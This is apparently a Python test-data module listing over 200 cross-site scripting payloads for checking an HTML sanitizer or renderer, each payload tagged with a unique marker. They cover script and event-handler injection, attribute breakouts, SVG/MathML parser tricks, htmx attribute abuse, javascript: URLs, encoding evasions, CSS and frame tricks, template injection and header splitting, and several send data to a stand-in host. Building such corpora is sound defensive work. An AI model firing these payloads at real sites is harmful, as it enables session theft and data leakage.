"""Over 200 texts that try to become more than text, by what they try. Our own list, plain data.

A text carries its marker wherever it could be recognised: in the name of an element or attribute
that it would put into a page, in the dialog that it would open, in the address that it would ask
for. `§` stands for the marker of its own, `xss000` onwards.
"""

from __future__ import annotations

from itertools import chain

MARK = "\N{SECTION SIGN}"

SCRIPTS = (
    "<script>alert('§')</script>",
    "<SCRIPT>alert('§')</SCRIPT>",
    "<script src=//§.off.example/x.js></script>",
    "<script src='/hit-§'></script>",
    "<script id=§ type=module>import('/hit-§')</script>",
    "<script/id=§>confirm('§')</script>",
    "<script\n>prompt('§')</script\n>",
    "<script>alert('§')",
    "<scr<script>ipt>alert('§')</scr</script>ipt>",
    "<<script>alert('§')//<</script>",
    "<script x='>'id=§>alert('§')</script>",
    "</script><script>alert('§')</script>",
    "<script>/*<![CDATA[*/alert('§')/*]]>*/</script>",
    "<script>document.title='§';fetch('//§.off.example')</script>",
    "<script>new WebSocket('wss://§.off.example/')</script>",
    "<script>navigator.sendBeacon('/hit-§')</script>",
    "<script>location='//§.off.example/'</script>",
    "<script>open('//§.off.example/')</script>",
    "<noscript><p title='</noscript><script>alert(`§`)</script>'>",
    "<script nomodule id=§>eval(atob('YWxlcnQoMSk='))</script>",
)

HANDLERS = (
    "<img src=x id=§ onerror=alert('§')>",
    "<img src=//§.off.example/pixel.png>",
    "<img/src='/hit-§'/onerror=alert('§')>",
    "<img srcset='//§.off.example/p 1x' onload=alert('§')>",
    "<body id=§ onload=alert('§')>",
    "<b id=§ onclick=alert('§')>press</b>",
    "<b id=§ onmouseover=alert('§')>point</b>",
    "<p id=§ onpointerenter=alert('§')>point</p>",
    "<input id=§ autofocus onfocus=alert('§')>",
    "<select id=§ autofocus onfocus=alert('§')><option>1</select>",
    "<textarea id=§ autofocus onfocus=alert('§')>",
    "<keygen id=§ autofocus onfocus=alert('§')>",
    "<details id=§ open ontoggle=alert('§')>x</details>",
    "<video id=§ src=x onerror=alert('§')></video>",
    "<video id=§><source onerror=alert('§') src=//§.off.example/v></video>",
    "<audio id=§ src=/hit-§ onloadstart=alert('§')></audio>",
    "<marquee id=§ onstart=alert('§')>x</marquee>",
    "<div id=§ onanimationstart=alert('§') class=panel>x</div>",
    "<div id=§ ontransitionend=alert('§')>x</div>",
    "<div id=§ contenteditable onbeforeinput=alert('§')>x</div>",
    "<div id=§ popover onbeforetoggle=alert('§')>x</div>",
    "<div id=§ onscrollsnapchange=alert('§')>x</div>",
    "<dialog id=§ open oncancel=alert('§')>x</dialog>",
    "<form id=§ oninput=alert('§')><input value=x></form>",
    "<x-§ onpointerrawupdate=alert('§')>x</x-§>",
    "<a id=§ href=# onfocus=alert('§') autofocus tabindex=0>x</a>",
)

BREAKOUTS = (
    "\"><script>alert('§')</script>",
    "'><script>alert('§')</script>",
    "\"><img src=x onerror=alert('§')>",
    "'><img src=x onerror=alert('§')>",
    "\" id=§ onmouseover=alert('§') x=\"",
    "' id=§ onmouseover=alert('§') x='",
    " id=§ onmouseover=alert('§') x=",
    "` id=§ onmouseover=alert('§') x=`",
    "\" autofocus onfocus=\"alert('§')",
    '" style="background:url(//§.off.example/)" §="',
    '" hx-get="/hit-§" hx-trigger="load',
    "\" hx-on:htmx:load=\"alert('§')",
    '" src="//§.off.example/" §="',
    '" formaction="javascript:alert(\'§\')" §="',
    "\"/><svg/onload=alert('§')>",
    "--><script>alert('§')</script><!--",
    "]]><script>alert('§')</script>",
    "</title><script>alert('§')</script>",
    "</textarea><script>alert('§')</script>",
    "</style><script>alert('§')</script>",
    "</svg><img src=x id=§ onerror=alert('§')>",
    "</h1></article></main><form id=§ action=//§.off.example/><input name=q>",
    "</a><a id=§ href=javascript:alert('§')>",
    "x\tid=§\tonclick=alert('§')",
    "x\x0cid=§\x0conclick=alert('§')",
)

FOREIGN = (
    "<svg onload=alert('§')>",
    "<svg id=§><script>alert('§')</script></svg>",
    "<svg id=§><script href='data:text/javascript,alert(1)'/></svg>",
    "<svg id=§><a href=\"javascript:alert('§')\"><text y=9>x</text></a></svg>",
    "<svg id=§><use href='//§.off.example/s.svg#x'/></svg>",
    "<svg id=§><image href='//§.off.example/p.png'/></svg>",
    "<svg id=§><animate attributeName=href values=\"javascript:alert('§')\"/></svg>",
    "<svg id=§><set attributeName=onmouseover to=alert('§') /></svg>",
    "<svg id=§><foreignObject><iframe srcdoc='x'></iframe></foreignObject></svg>",
    "<svg id=§><style>*{background:url(//§.off.example/)}</style></svg>",
    "<svg><desc><script>alert('§')</script></desc></svg>",
    "<svg id=§><discard onbegin=alert('§')></svg>",
    "<math id=§ href=\"javascript:alert('§')\">x</math>",
    "<math id=§><mtext><table><mglyph><style><img src=x onerror=alert('§')></table></math>",
    "<math><mi//xlink:href=\"data:x,<script>alert('§')</script>\">",
    "<svg></p><style><a id=\"</style><img id=§ src=1 onerror=alert('§')>\">",
    "<noscript><style></noscript><img id=§ src=x onerror=alert('§')></style>",
    "<form id=§><math><mtext></form><form><mglyph><style></math><img src onerror=alert('§')>",
    "<table><td><select id=§><script>alert('§')</script>",
    "<template id=§><script>alert('§')</script></template>",
    "<template shadowrootmode=open id=§><slot></slot><script>alert('§')</script></template>",
    "<xmp id=§><img title=\"</xmp><img src onerror=alert('§')>\"></xmp>",
    "<plaintext id=§>",
    "<listing id=§>&lt;img src=x onerror=alert('§')&gt;</listing>",
    "<iframe id=§><!--</iframe><img src=x onerror=alert('§')>-->",
)

HTMX = (
    "<div id=§ hx-get=/hit-§ hx-trigger=load></div>",
    "<div id=§ data-hx-get=/hit-§ data-hx-trigger=load></div>",
    "<div id=§ hx-post=/hit-§ hx-trigger='load delay:1ms'></div>",
    "<div id=§ hx-delete=/hit-§ hx-trigger='every 1ms'></div>",
    "<div id=§ hx-get=//§.off.example/ hx-trigger=load></div>",
    "<div id=§ hx-get=/hit-§ hx-trigger='load[alert(`§`)]'></div>",
    "<div id=§ hx-get=/hit-§ hx-trigger=revealed></div>",
    "<div id=§ hx-get=/hit-§ hx-trigger='intersect once'></div>",
    "<div id=§ hx-on:load=alert('§')></div>",
    "<div id=§ hx-on::after-init=alert('§')></div>",
    "<div id=§ hx-on:htmx:after:init=alert('§')></div>",
    "<div id=§ hx-live=alert('§')></div>",
    "<div id=§ hx-get=/hit-§ hx-trigger=load hx-vals=\"js:{x:alert('§')}\"></div>",
    "<div id=§ hx-get=/hit-§ hx-trigger=load hx-headers=\"js:{x:alert('§')}\"></div>",
    "<div id=§ hx-get=/hit-§ hx-trigger=load hx-confirm=\"js:alert('§')\"></div>",
    "<div id=§ hx-get=/hit-§ hx-trigger=load hx-config='{\"sse\":true}'></div>",
    "<div id=§ hx-ext=sse sse-connect=/hit-§ sse-swap=message></div>",
    "<div id=§ hx-sse:connect=/hit-§></div>",
    "<div id=§ hx-ws:connect=wss://§.off.example/></div>",
    "<a id=§ hx-boost:inherited=true href=/hit-§ hx-trigger=load>x</a>",
    "<div id=§ hx-action=javascript:alert('§') hx-method=get hx-trigger=load></div>",
    "<div id=main hx-swap-oob=true class=§>gone</div>",
    "<hx-partial id=§ hx-target='#main'><b id=§>gone</b></hx-partial>",
    "<template hx type=partial hx-target=body id=§>gone</template>",
    "<div id=§ hx-preload=/hit-§ hx-optimistic='#main'></div>",
    '<meta id=§ name=htmx-config content=\'{"transitions":true,"inlineScriptNonce":"§"}\'>',
)

ADDRESSES = (
    "javascript:alert('§')",
    "JaVaScRiPt:alert('§')",
    " javascript:alert('§')",
    "java\tscript:alert('§')",
    "java\nscript:alert('§')",
    "\x01javascript:alert('§')",
    "javascript&colon;alert('§')",
    "javascript&#58;alert('§')",
    "javascript://example.org/%0aalert('§')",
    "view-source:javascript:alert('§')",
    "vbscript:msgbox('§')",
    "data:text/html,<script>alert('§')</script>",
    "data:image/svg+xml,<svg onload=alert('§')>",
    "blob:https://§.off.example/x",
    "feed:javascript:alert('§')",
    "//§.off.example/",
    "\\\\§.off.example\\",
    "https:§.off.example",
    "https://§.off.example/\" onclick=\"alert('§')",
    "https://§.off.example/'><script>alert('§')</script>",
    "https://i.scdn.co/image/§\" onerror=\"alert('§')",
    "https://i.scdn.co@§.off.example/image",
    "https://§.off.example\\@i.scdn.co/image",
    "http://127.0.0.1:9/image/§'><b id=§>",
    '/v2/../hit-§?"><b id=§>',
    'spotify:track:§"><b id=§>',
)

ENTITIES = (
    "&lt;script&gt;alert('§')&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert('§')&amp;lt;/script&amp;gt;",
    "&amp;amp;lt;b id=§&amp;amp;gt;",
    "&#60;script&#62;alert('§')&#60;/script&#62;",
    "&#x3c;script&#x3E;alert('§')&#x3c;/script&#x3E;",
    "&#0000060script&#0000062alert('§')",
    "&ltscript&gtalert('§')&lt/script&gt",
    "&LT;script&GT;alert('§')",
    "&quot;&gt;&lt;img id=§ src=x onerror=alert('§')&gt;",
    "&#34; id=§ onmouseover=alert('§') x=&#34;",
    "&apos; id=§ onmouseover=alert('§') x=&apos;",
    "%3Cscript%3Ealert('§')%3C/script%3E",
    "%253Cscript%253Ealert('§')%253C/script%253E",
    "\\u003cscript\\u003ealert('§')\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert('§')\\x3c/script\\x3e",
    "&nvlt;b id=§>&bne;&Tab;&NewLine;",
)

UNICODE = (
    "\uff1cscript\uff1ealert('§')\uff1c/script\uff1e",
    "\ufe64b id=§\ufe65",
    "\u2039b id=§\u203a \u2329b id=§\u232a",
    "\u02c2script\u02c3alert('§')\u02c2/script\u02c3",
    "\u226e\u0338b id=§>",
    "<\u0338b id=§>",
    "<b\u200bid=§>",
    "<b\u00a0id=§>",
    "<b\u2028id=§\u2029onclick=alert('§')>",
    "\u202e>'§'=di b<\u202c<b id=§>",
    "\ufeff<b id=§>",
    "<b\0id=§>",
    "<scr\0ipt>alert('§')</scr\0ipt>",
    "<\u0130mg src=x id=§ onerror=alert('§')>",
    "<\u017fcript>alert('§')</\u017fcript>",
    "+ADw-script+AD4-alert('§')+ADw-/script+AD4-",
    "\x1b$B<b id=§>\x1b(B",
    "\U000e003c\U000e0062<b id=§>\U000e003e",
)

STYLES = (
    "<style>@import'//§.off.example/x.css'</style>",
    "<style id=§>body{background:url(/hit-§)}</style>",
    "<style>input[value^=a]{background:url(//§.off.example/a)}</style>",
    "<b id=§ style=background:url(//§.off.example/)>x</b>",
    "<b id=§ style='behavior:url(/hit-§)'>x</b>",
    "<b id=§ style=position:fixed;inset:0>x</b>",
    "<link id=§ rel=stylesheet href=//§.off.example/x.css>",
    "<link id=§ rel=preload as=script href=/hit-§>",
    "<link rel=dns-prefetch href=//§.off.example>",
    "<style>@font-face{font-family:x;src:url(//§.off.example/f)}*{font-family:x}</style>",
)

FRAMES = (
    "<base href=//§.off.example/>",
    "<base id=§ target=_top>",
    "<meta id=§ http-equiv=refresh content='0;url=//§.off.example/'>",
    "<meta id=§ http-equiv=refresh content='0;url=/hit-§'>",
    "<meta id=§ http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
    "<meta id=§ http-equiv=Set-Cookie content=x=§>",
    "<iframe id=§ src=//§.off.example/></iframe>",
    "<iframe id=§ srcdoc=\"<script>parent.alert('§')</script>\"></iframe>",
    "<iframe id=§ src=\"javascript:parent.alert('§')\"></iframe>",
    "<object id=§ data=//§.off.example/></object>",
    "<embed id=§ src=/hit-§>",
    "<form id=§ action=//§.off.example/><button autofocus>x</button></form>",
    "<button id=§ form=none formaction=javascript:alert('§')>x</button>",
    "<input id=q name=§ type=image src=//§.off.example/>",
    "<a id=§ href=//§.off.example/ target=_blank>x</a>",
    "<a id=main name=announcer class=§>x</a>",
)

SCRIPT_DATA = (
    "';alert('§');//",
    "\";alert('§');//",
    "\\';alert('§');//",
    "${alert('§')}",
    "`+alert('§')+`",
    "\"}</script><script>alert('§')</script>",
    '{"__proto__":{"§":"<b id=§>"}}',
    "<!--<script>\"}alert('§')",
    "\u2028alert('§')\u2029",
    "*/alert('§')/*",
)

TEMPLATES = (
    "{{ '<b id=§>' | safe }}",
    "{{ self.__init__.__globals__ }}<b id=§>",
    "{% raw %}<b id=§>{% endraw %}",
    "{% endblock %}<b id=§>",
    "{# §",
    "${'<b id=§>'} #{'<b id=§>'} <%= '<b id=§>' %>",
    "{{constructor.constructor('alert(`§`)')()}}",
    "%(§)s %s {0} {name} <b id=§>",
    "<b id=§ v-html=\"'x'\" x-data x-init=alert('§') ng-init=alert('§')>",
)

LINES = (
    "x\r\nContent-Type: text/html\r\n\r\n<b id=§>",
    "x\r\nSet-Cookie: §=1",
    "x\nHX-Redirect: //§.off.example/",
    "x%0d%0aLocation:%20//§.off.example/",
    "x\u560d\u560aLocation: //§.off.example/<b id=§>",
)

FAMILIES = (
    SCRIPTS, HANDLERS, BREAKOUTS, FOREIGN, HTMX, ADDRESSES, ENTITIES, UNICODE, STYLES, FRAMES,
    SCRIPT_DATA, TEMPLATES, LINES,
)  # fmt: skip


def texts(*families: tuple[str, ...]) -> tuple[str, ...]:
    """The texts of some families, each with its mark."""
    return tuple(_MARKED[text] for text in chain.from_iterable(families))


_MARKED = {
    text: text.replace(MARK, f"xss{number:03}")
    for number, text in enumerate(chain.from_iterable(FAMILIES))
}
TEXTS = texts(*FAMILIES)
